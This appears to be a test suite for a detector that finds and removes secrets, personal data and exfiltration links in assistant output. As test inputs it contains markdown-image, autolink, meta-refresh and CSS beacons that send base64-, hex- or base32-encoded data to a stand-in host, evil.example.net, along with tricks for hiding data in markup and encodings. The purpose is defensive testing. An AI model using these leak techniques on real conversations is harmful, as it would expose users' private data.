// Data that somebody hides on purpose is seen and cut out whole: amid letters, under markup, in pieces, encoded, in links.
import { describe, expect, it } from "vitest";
import { exfiltrationDetector } from "../../../src/decide/detect/exfiltration/exfiltration.ts";
import { piiDetector } from "../../../src/decide/detect/pii/pii.ts";
import { detect } from "../../../src/decide/detect/run.ts";
import { base62, crc32 } from "../../../src/decide/detect/secrets/checksum.ts";
import { secretsDetector } from "../../../src/decide/detect/secrets/secrets.ts";

const STRONG = 700;

function strong(text: string) {
	const target = "/content/0/text";
	const segment = { pointer: target, target, kind: "message", role: "assistant", trust: "internal", text } as const;
	const detectors = [secretsDetector, piiDetector, exfiltrationDetector];
	return detect([segment], { stage: "output", hosts: ["example.com"] }, detectors).signals.filter(
		({ score, detector }) => score >= STRONG && detector !== "normaliser",
	);
}

/** What is left of the text when everything strong is cut out. */
function rest(text: string): string {
	const cut = new Set<number>();
	for (const { span } of strong(text)) for (let at = span?.start ?? 0; at < (span?.end ?? 0); at++) cut.add(at);
	return [...text].filter((_, at) => !cut.has(at)).join("");
}

function drawn(length: number, alphabet: string): string {
	let state = 7 + length;
	return Array.from({ length }, () => {
		state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
		return alphabet.charAt((state >> 8) % alphabet.length);
	}).join("");
}

const LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const random = drawn(30, `${LETTERS}0123456789`);
const GITHUB = `${["gh", "p_"].join("")}${random}${base62(crc32(random), 6)}`;
const UNCHECKED = `${["gh", "p_"].join("")}${drawn(36, `${LETTERS}0123456789`)}`;
const AMAZON = `${["AK", "IA"].join("")}${drawn(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")}`;
const CARD = "4000056655665556";
const FOURS = CARD.match(/.{4}/g) ?? [];
const MAIL = "ana@example.com";
const SENTENCE = `My card number is ${CARD} and my mail ${MAIL}`;
const codes = (text: string, base: number) => [...text].map((one) => one.charCodeAt(0).toString(base));
const base64 = (text: string) => Buffer.from(text).toString("base64");
const turned = (text: string) => [...text].reverse().join("");
const struck = (text: string) => [...text].map((one) => `${one}\u0336`).join("");
const inPieces = (text: string, length: number, between: string) =>
	(text.match(new RegExp(`.{1,${length}}`, "g")) ?? []).join(between);

describe("tokens amid other letters", () => {
	it.each([
		["an address before it", `${MAIL}${GITHUB}`, ""],
		["an address before one whose checksum fails", `${MAIL}${UNCHECKED}`, ""],
		["a letter before it", `x${UNCHECKED}`, "x"],
		["capitals before it", `XX${AMAZON}`, "XX"],
		["letters behind it", `${AMAZON}abc`, ""],
		["letters on both sides", `zz${AMAZON}zz`, "zz"],
		["letters behind a checksum", `${GITHUB}junkjunk`, ""],
		["more of the same behind a checksum", `${GITHUB}_zz-zz`, ""],
	])("%s", (_, text, left) => {
		expect(rest(text)).toBe(left);
	});

	it("a checksum is proved though letters follow", () => {
		expect(strong(`${GITHUB}junk`)[0]?.evidence).toBe("checksum");
	});

	it.each([
		["ids that end like a prefix", `task-${"0123456789abcdef".repeat(2)} disk-${"9f86d081884c7d65".repeat(3)}`],
		["words in capitals", "THE PAKIASTANIAN BROADCASTINGCORPORATION"],
		["names with underscores", "map_npm_packages_to_their_repositories_and_update_them"],
	])("%s are none", (_, text) => {
		expect(strong(text)).toEqual([]);
	});

	it("an exact shape filled with the alphabet counts, a stand-in that says so does not", () => {
		const filled = (body: string) => `${["gh", "p_"].join("")}${body}`;
		expect(strong(filled("abcdefghijklmnopqrstuvwxyz0123456789"))).not.toEqual([]);
		expect(strong(filled("EXAMPLE0TOKEN0EXAMPLE0TOKEN0EXAMPLE0"))).toEqual([]);
		expect(strong(filled("x".repeat(36)))).toEqual([]);
	});

	it.each(["db.internal:5432", "10.0.0.5", "localhost", "db.example.com"])("a drawn password counts on %s", (host) => {
		const password = ["Tr0ub4", "dor3x"].join("");
		expect(rest(`postgres://svc:${password}@${host}/app`)).toBe(`postgres://svc:@${host}/app`);
	});

	it("a user's long name does not hide the password", () => {
		const password = ["Tr0ub4", "dor3x"].join("");
		expect(rest(`mongodb://${"u".repeat(600)}:${password}@h.internal/x`)).not.toContain(password);
	});
});

describe("addresses", () => {
	it.each([
		["in a query", `https://evil.example.net/?e=${MAIL}`, "https://evil.example.net/?e="],
		["before another parameter", `https://evil.example.net/?e=${MAIL}&k=1`, "https://evil.example.net/?e=&k=1"],
		["in a path", `https://evil.example.net/u/${MAIL}/x`, "https://evil.example.net/u//x"],
		["spelled", "write a n a @ example . com please", "write  please"],
		["spelled to the end", "write a n a @ e x a m p l e . c o m please", "write  please"],
		["with a digit behind", `${MAIL}1`, "1"],
		["backwards", turned(MAIL), ""],
		["at a country that is a file's ending", "ana@firma.rs", ""],
	])("%s", (_, text, left) => {
		expect(rest(text)).toBe(left);
	});

	it.each(["https://user@host.example.org/x", "https://medium.com/@ana/post", "lunch @ noon . ok", "icon@2x.png tokio@1.0.rs"])(
		"%s is none",
		(text) => {
			expect(strong(text).filter(({ type }) => type === "pii.email")).toEqual([]);
		},
	);
});

describe("desks and service numbers are nobody's own", () => {
	it.each([
		"Write to support@shop.example or info@firma.example",
		"no-reply@shop.example, support-de@shop.example, press.office@shop.example",
		"Schreiben Sie an kundenservice@laden.example",
		"atencion.al.cliente@tienda.example, service-client@boutique.example",
		"Call us at +1 800 555 0199 or 1-800-275-2273.",
		"Rufen Sie uns an: 0800 3301000",
	])("%s", (text) => {
		expect(strong(text)).toEqual([]);
	});

	it.each([
		"support@gmail.com",
		"ana.support@shop.example",
		"Her number is +1 415 867 5309, call her",
		"my mobile is 1-800-275-2273",
	])("%s is a person's", (text) => {
		expect(strong(text)).not.toEqual([]);
	});
});

describe("numbers pulled apart", () => {
	it.each([
		["by blanks", [...CARD].join(" ")],
		["by underscores", FOURS.join("_")],
		["by strokes", FOURS.join("/")],
		["by bars", FOURS.join(" | ")],
		["by line ends", FOURS.join("\n")],
		["one by one by line ends", [...CARD].join("\n")],
		["by commas", FOURS.join(", ")],
	])("%s", (_, text) => {
		expect(rest(text)).toBe("");
	});

	it("glued to letters", () => expect(rest(`card${CARD}x`)).toBe("cardx"));

	it.each([
		["a row that goes on", `${[...CARD].join(" ")} 7 8 9`],
		["a wrong check digit", [...CARD.slice(0, -1), "7"].join(" ")],
		["pairs without a word", inPieces(CARD, 2, " ")],
		["hexadecimal", `a${CARD}f`],
	])("%s is none", (_, text) => {
		expect(strong(text)).toEqual([]);
	});
});

describe("under markup", () => {
	it.each([
		["backticks", `\`ana\`@\`example.com\``, "``"],
		["tags", "ana<b>@</b>example.com", ""],
		["comments", "ana<!-- x -->@example.com", ""],
		["emphasis", "ana**@**example.com", ""],
		["tags within a token", `${GITHUB.slice(0, 10)}<b></b>${GITHUB.slice(10)}`, ""],
		["emphasis within a token", `${GITHUB.slice(0, 10)}**${GITHUB.slice(10, 20)}**${GITHUB.slice(20)}`, ""],
		["a backslash", GITHUB.replace("_", "\\_"), ""],
		["a break within a word", `${GITHUB.slice(0, 3)}<wbr>${GITHUB.slice(3)}`, ""],
		["tags between digits", FOURS.join("<b></b>"), ""],
		["strokes through an address", struck(MAIL), ""],
		["strokes through digits", struck(CARD), ""],
		["strokes through a token", struck(GITHUB), ""],
		["frames round digits", [...CARD].map((one) => `${one}\u20e3`).join(""), ""],
	])("%s", (_, text, left) => {
		expect(rest(text)).toBe(left);
	});
});

describe("encoded", () => {
	it.each([
		["in lines of four", inPieces(base64(SENTENCE), 4, "\n")],
		["in threes", inPieces(base64(SENTENCE), 3, " ")],
		["one by one", inPieces(base64(SENTENCE), 1, " ")],
		["behind one letter", `x${base64(SENTENCE)}`],
		["behind two letters", `xY${base64(MAIL)}`],
		["behind three letters", `q9Z${base64(`${CARD} is it`)}`],
		["backwards", turned(base64(SENTENCE))],
		["decimal codes", codes(MAIL, 10).join(" ")],
		["decimal codes of digits", codes(CARD, 10).join(",")],
		["decimal codes of a token", codes(GITHUB, 10).join(", ")],
		["octal codes", codes(MAIL, 8).join(" ")],
		[
			"octal escapes",
			codes(MAIL, 8)
				.map((one) => `\\${one}`)
				.join(""),
		],
		["quoted-printable", "ana=40example.com"],
		["quoted-printable over lines", "a=6E=61=40ex=\nample=2Ecom"],
	])("%s", (_, text) => {
		expect(strong(text)).not.toEqual([]);
	});

	it("of base64 in pieces the data is cut out, the words around stay", () => {
		const left = rest(`The data is ${inPieces(base64(`${CARD} ${MAIL}`), 5, " ")} okay then.`);
		expect(left).toMatch(/^The data is \S{0,4} ?\S{0,4}=* okay then\.$/);
	});
});

describe("links", () => {
	const message = "the customer said that her password is swordfish";
	const hex = Buffer.from(message).toString("hex");
	const image = (url: string) => `![x](${url})`;
	it.each([
		["a host's label in hexadecimal", `https://${hex.slice(0, 60)}.evil-example.net/`],
		["a host's label in base32", "see https://nb2w45dfnzxw4zlpnv4xezltmvqxezlu.evil-example.net/x"],
		["labels that belong together", image(`https://${inPieces(hex.slice(0, 48), 12, ".")}.evil-example.net/a`)],
		["an odd label", image("https://a8f3k29dkq0x7zm1p4v6.evil-example.net/p.png")],
		["an autolink", `<https://evil.example.net/?q=${encodeURIComponent(message)}>`],
		["an encoded autolink", `<https://evil.example.net/?q=${base64(message)}>`],
		["no scheme", image(`//evil.example.net/p.png?d=${base64(message)}`)],
		["a stroke the other way", image(`/\\evil.example.net/p.png?d=${base64(message)}`)],
		["one stroke", image(`https:/evil.example.net/p.png?d=${base64(message)}`)],
		["a picture's path", image(`https://evil.example.net/${drawn(70, `${LETTERS}0123456789`)}/p.png`)],
		["a path in pieces", image(`https://evil.example.net/${inPieces(base64(message), 8, "/")}/p.png`)],
		["parameters in pieces", image(`https://evil.example.net/?a=${inPieces(base64(message), 8, "&b=")}`)],
		["a page that goes away", '<meta http-equiv="refresh" content="0;url=https://evil.example.net/">'],
		["a style in capitals", `<style>a{background:URL(https://evil.example.net/?d=${base64(message)})}</style>`],
		["an angle in a value before", `<img alt="a>b" src="https://evil.example.net/?d=${base64(message)}">`],
		["a bracket in the label", image(`https://evil.example.net/?d=${base64(message)}`).replace("x", "a\\]b")],
		["code in the label", image(`https://evil.example.net/?d=${base64(message)}`).replace("x", "`]`")],
	])("%s", (_, text) => {
		expect(strong(text).filter(({ detector }) => detector === "exfiltration")).not.toEqual([]);
	});

	it.each([
		"https://en.wikipedia.org/wiki/Thing and https://www.google.com/search?q=how+to+bake+a+loaf+of+bread+at+home",
		image("https://d1a2b3c4e5f6g7.cloudfront.net/chart.png"),
		"https://my-branch-git-main-team-of-two.vercel.app/docs",
		image(`https://lh3.googleusercontent.com/${drawn(90, `${LETTERS}0123456789_-`)}`),
		"https://twitter.com/intent/tweet?text=I%20just%20read%20a%20very%20good%20article%20about%20bread",
		'<meta http-equiv="refresh" content="5">',
	])("%s is ordinary", (text) => {
		expect(strong(text)).toEqual([]);
	});
});
